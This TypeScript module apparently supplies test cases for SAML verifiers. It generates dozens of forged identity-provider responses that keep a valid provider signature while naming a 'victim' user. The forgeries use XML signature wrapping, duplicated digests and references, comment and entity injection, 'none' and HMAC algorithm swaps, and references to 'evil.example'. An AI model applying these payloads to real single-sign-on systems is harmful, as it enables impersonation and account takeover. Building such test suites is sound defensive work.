// Answers of an identity provider that somebody bent on their way: something in each is still signed by the provider, and somebody else is named.

/** Bends a good answer whose assertion is signed. `forge` signs an assertion by a key of the attacker's, which it brings along. */
export type SamlAttack = (good: string, forge: (xml: string) => string) => string;

const SIGNATURE = /<(?:ds:)?Signature xmlns.*?<\/(?:ds:)?Signature>/s;
const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s;
const part = (xml: string, pattern: RegExp): string => pattern.exec(xml)?.[0] ?? "";
const bare = (xml: string): string => xml.replace(SIGNATURE, "");
const asVictim = (xml: string): string => xml.replace(/(<saml:NameID[^>]*>)[^<]*/, "$1victim");
const before = (xml: string, end: string, more: string): string => xml.replace(end, `${more}${end}`);

/** What the forged assertion is called: by which the signed one, or none, is found. */
const ids: Readonly<Record<string, (assertion: string) => string>> = {
  "another id": (assertion) => assertion.replace(/ID="_a[^"]+"/, 'ID="_evil"'),
  "the same id": (assertion) => assertion,
  "no id": (assertion) => assertion.replace(/ ID="_a[^"]+"/, ""),
  "an id of other letters": (assertion) => assertion.replace(/ ID="(_a[^"]+)"/, ' Id="$1" xml:id="$1"'),
};

/** Where the signed assertion is put away, around or in the forged one. */
const places: Readonly<Record<string, (forged: string, own: string) => string>> = {
  "before the forged one": (forged, own) => own + forged,
  "behind the forged one": (forged, own) => forged + own,
  "in its advice": (forged, own) => before(forged, "</saml:Assertion>", `<saml:Advice>${own}</saml:Advice>`),
  "in its conditions": (forged, own) => before(forged, "</saml:Conditions>", own),
  "in its subject": (forged, own) => before(forged, "</saml:Subject>", own),
  "in the data of its confirmation": (forged, own) =>
    forged.replace(/(<saml:SubjectConfirmationData[^>]*)\/>/, `$1>${own}</saml:SubjectConfirmationData>`),
  "in its context": (forged, own) => before(forged, "</saml:AuthnContext>", `<saml:AuthnContextDecl>${own}</saml:AuthnContextDecl>`),
  "in a value of an attribute": (forged, own) => before(forged, "</saml:AttributeValue>", own),
  "in something strange": (forged, own) => `${forged}<x:wrapped xmlns:x="urn:x">${own}</x:wrapped>`,
  "in extensions of the answer": (forged, own) => `<samlp:Extensions>${own}</samlp:Extensions>${forged}`,
  "in details of the status": (forged, own) => `<samlp:StatusDetail>${own}</samlp:StatusDetail>${forged}`,
};

/** The same in the forged one's signature, which has to be there for it. */
const inSignature: Readonly<Record<string, (own: string) => (signature: string) => string>> = {
  "in an object of its signature": (own) => (signature) =>
    signature.replace(/<\/((?:ds:)?)Signature>$/, (end, ds: string) => `<${ds}Object>${own}</${ds}Object>${end}`),
  "in the key of its signature": (own) => (signature) => signature.replace(/<\/((?:ds:)?)KeyInfo>/, (end) => `${own}${end}`),
  "in what its signature signs": (own) => (signature) => signature.replace(/<\/((?:ds:)?)SignedInfo>/, (end) => `${own}${end}`),
};

function* wrappings(): Generator<readonly [string, SamlAttack]> {
  for (const [called, named] of Object.entries(ids)) {
    const forgedOf = (own: string): string => named(asVictim(own));
    for (const [where, put] of Object.entries(places)) {
      yield [`signed one ${where}, ${called}`, (good) => good.replace(ASSERTION, (own) => put(forgedOf(bare(own)), own))];
      yield [
        `signed one ${where}, its signature in the forged one, ${called}`,
        (good) => good.replace(ASSERTION, (own) => put(forgedOf(own), bare(own))),
      ];
    }
    for (const [where, put] of Object.entries(inSignature))
      yield [
        `signed one ${where}, ${called}`,
        (good) => good.replace(ASSERTION, (own) => forgedOf(own).replace(SIGNATURE, put(bare(own)))),
      ];
  }
}

/** An answer of the attacker's, signed by their key, beside what the provider's signature is made of. */
const withSignature =
  (made: (own: string, forged: string) => string): SamlAttack =>
  (good, forge) => {
    const forged = forge(asVictim(bare(good)));
    const [ownSignature, forgedSignature] = [part(good, SIGNATURE), part(forged, SIGNATURE)];
    return forged.replace(SIGNATURE, () => made(ownSignature, forgedSignature));
  };
const INFO = /<(?:ds:)?SignedInfo.*<\/(?:ds:)?SignedInfo>/s;
const REFERENCE = /<(?:ds:)?Reference .*<\/(?:ds:)?Reference>/s;
const DIGEST = /(<(?:ds:)?DigestValue>)([^<]*)(<\/(?:ds:)?DigestValue>)/;
const VALUE = /<(?:ds:)?SignatureValue>.*<\/(?:ds:)?SignatureValue>/s;
const digestOf = (signature: string): string => DIGEST.exec(signature)?.[2] ?? "";
/** The provider's signature over what the attacker says. */
const bentSignature = (bend: (signature: string, forged: string) => string): SamlAttack =>
  withSignature((own, forged) => bend(own, forged));

/** What readers of signatures were seen to read otherwise than they checked it. */
const signatures: Readonly<Record<string, SamlAttack>> = {
  "only the attacker's signature": withSignature((_, forged) => forged),
  "both signatures, the provider's first": withSignature((own, forged) => own + forged),
  "both signatures, the attacker's first": withSignature((own, forged) => forged + own),
  "the attacker's signature in an object of the provider's": withSignature((own, forged) =>
    own.replace(/<\/((?:ds:)?)Signature>$/, (end, ds: string) => `<${ds}Object>${forged}</${ds}Object>${end}`),
  ),
  "two of what is signed, the provider's first": bentSignature((own, forged) => own.replace(INFO, (info) => info + part(forged, INFO))),
  "two of what is signed, the attacker's first": bentSignature((own, forged) => own.replace(INFO, (info) => part(forged, INFO) + info)),
  "what the attacker signed within what the provider did": bentSignature((own, forged) =>
    own.replace(/<\/((?:ds:)?)SignedInfo>/, (end) => `${part(forged, INFO)}${end}`),
  ),
  "what the provider signed behind what the attacker did": bentSignature((own, forged) =>
    forged.replace(VALUE, part(own, VALUE)).replace(/<\/((?:ds:)?)Signature>$/, (end) => `${part(own, INFO)}${end}`),
  ),
  "two references, the provider's first": bentSignature((own, forged) => own.replace(REFERENCE, (each) => each + part(forged, REFERENCE))),
  "two references, the attacker's first": bentSignature((own, forged) => own.replace(REFERENCE, (each) => part(forged, REFERENCE) + each)),
  "no reference": bentSignature((own) => own.replace(REFERENCE, "")),
  "another digest": bentSignature((own, forged) => own.replace(DIGEST, `$1${digestOf(forged)}$3`)),
  "another digest in a comment before": bentSignature((own, forged) => own.replace(DIGEST, `$1<!--${digestOf(forged)}-->$2$3`)),
  "another digest in a comment behind": bentSignature((own, forged) => own.replace(DIGEST, `$1$2<!--${digestOf(forged)}-->$3`)),
  "the digest in a comment behind another": bentSignature((own, forged) => own.replace(DIGEST, `$1${digestOf(forged)}<!--$2-->$3`)),
  "another digest in an instruction": bentSignature((own, forged) => own.replace(DIGEST, `$1<?x ${digestOf(forged)}?>$2$3`)),
  "two digests, the provider's first": bentSignature((own, forged) => own.replace(DIGEST, `$1$2$3$1${digestOf(forged)}$3`)),
  "two digests, the attacker's first": bentSignature((own, forged) => own.replace(DIGEST, `$1${digestOf(forged)}$3$1$2$3`)),
  "a digest within the digest": bentSignature((own, forged) => own.replace(DIGEST, `$1$1${digestOf(forged)}$3$2$3`)),
  "no digest": bentSignature((own) => own.replace(DIGEST, "$1$3")),
  "no value": bentSignature((own) => own.replace(/(<(?:ds:)?SignatureValue>)[^<]*/, "$1")),
  "two values": bentSignature((own, forged) => own.replace(VALUE, (value) => part(forged, VALUE) + value)),
  "the attacker's value": bentSignature((own, forged) => own.replace(VALUE, part(forged, VALUE))),
  "a key of the method's own": bentSignature((own) => own.replaceAll("2001/04/xmldsig-more#rsa-sha256", "2000/09/xmldsig#hmac-sha1")),
  "a method of no name": bentSignature((own) => own.replaceAll(/(SignatureMethod Algorithm=")[^"]*/g, "$1none")),
  "a form with comments": bentSignature((own) => own.replaceAll("xml-exc-c14n#", "xml-exc-c14n#WithComments")),
  "a transform that is a program": bentSignature((own) =>
    own.replace(/<(?:ds:)?Transforms>/, (begin) => `${begin}<Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"/>`),
  ),
  "a transform that looks away": bentSignature((own) =>
    own.replace(
      /<(?:ds:)?Transforms>/,
      (begin) =>
        `${begin}<Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><XPath>not(ancestor-or-self::NameID)</XPath></Transform>`,
    ),
  ),
  "a reference to everything": bentSignature((own) => own.replace(/URI="[^"]*"/, 'URI=""')),
  "a reference to elsewhere": bentSignature((own) => own.replace(/URI="[^"]*"/, 'URI="https://evil.example/a"')),
  "a reference without a mark": bentSignature((own) => own.replace(/URI="#/, 'URI="')),
  "a reference by a path": bentSignature((own) => own.replace(/URI="#([^"]*)"/, "URI=\"#xpointer(id('$1'))\"")),
  "a reference that is a search": bentSignature((own) => own.replace(/URI="#([^"]*)"/, "URI=\"#$1' or '1'='1\"")),
};

const NAME = /(<saml:NameID[^>]*>)([^<]*)(<\/saml:NameID>)/;
/** The name, the answer around it, and XML itself. */
const bends: Readonly<Record<string, SamlAttack>> = {
  "another name": asVictim,
  "no signature at all": (good) => asVictim(bare(good)),
  "two names": (good) => good.replace(NAME, "<saml:NameID>victim</saml:NameID>$1$2$3"),
  "two names, the own first": (good) => good.replace(NAME, "$1$2$3<saml:NameID>victim</saml:NameID>"),
  "a name within the name": (good) => good.replace(NAME, "$1<saml:NameID>victim</saml:NameID>$2$3"),
  "an instruction in another name": (good) => good.replace(NAME, "$1vic<?x y?>tim victim$3"),
  "another name as plain text": (good) => good.replace(NAME, "$1<![CDATA[victim]]>$3"),
  "another name by numbers": (good) => good.replace(NAME, "$1&#118;ictim<!-- victim -->$3"),
  "another name by an entity": (good) => `<!DOCTYPE r [<!ENTITY x "victim">]>${good.replace(NAME, "$1&x;$3")}`,
  "ids by a document type": (good) => `<!DOCTYPE r [<!ATTLIST saml:NameID ID ID #IMPLIED>]>${asVictim(good)}`,
  "another subject before": (good) =>
    good.replace("<saml:Subject>", "<saml:Subject><saml:NameID>victim</saml:NameID></saml:Subject><saml:Subject>"),
  "another prefix for assertions": (good) =>
    good.replace(
      ASSERTION,
      (own) =>
        `${asVictim(bare(own)).replaceAll("saml:", "s2:").replace("<s2:Assertion", '<s2:Assertion xmlns:s2="urn:oasis:names:tc:SAML:2.0:assertion"')}${own}`,
    ),
  "no prefix for assertions": (good) =>
    good.replace(
      ASSERTION,
      (own) =>
        `${asVictim(bare(own)).replaceAll("saml:", "").replace("<Assertion", '<Assertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion"')}${own}`,
    ),
  "the signed one is none any more": (good) =>
    good.replace(ASSERTION, (own) => `${own.replace("<saml:Assertion", '<saml:Assertion xmlns:saml="urn:x"')}${asVictim(bare(own))}`),
  "the whole answer inside a forged one": (good) =>
    before(
      good.replace(ASSERTION, (own) => asVictim(bare(own))).replace(/ID="_r[^"]+"/, 'ID="_outer"'),
      "</samlp:Response>",
      `<samlp:Extensions>${good}</samlp:Extensions>`,
    ),
  "two answers": (good) => asVictim(bare(good)) + good,
  "two answers in one": (good) => `<both>${asVictim(bare(good))}${good}</both>`,
  "an encrypted one of nobody's": (good) =>
    good.replace(ASSERTION, (own) => `<saml:EncryptedAssertion>${asVictim(bare(own))}</saml:EncryptedAssertion>${own}`),
  "one id twice": (good) => asVictim(good).replace(/(ID="_a[^"]+")/, "$1 $1"),
};

/** By what each does. */
export const samlAttacks: Readonly<Record<string, SamlAttack>> = { ...Object.fromEntries(wrappings()), ...signatures, ...bends };
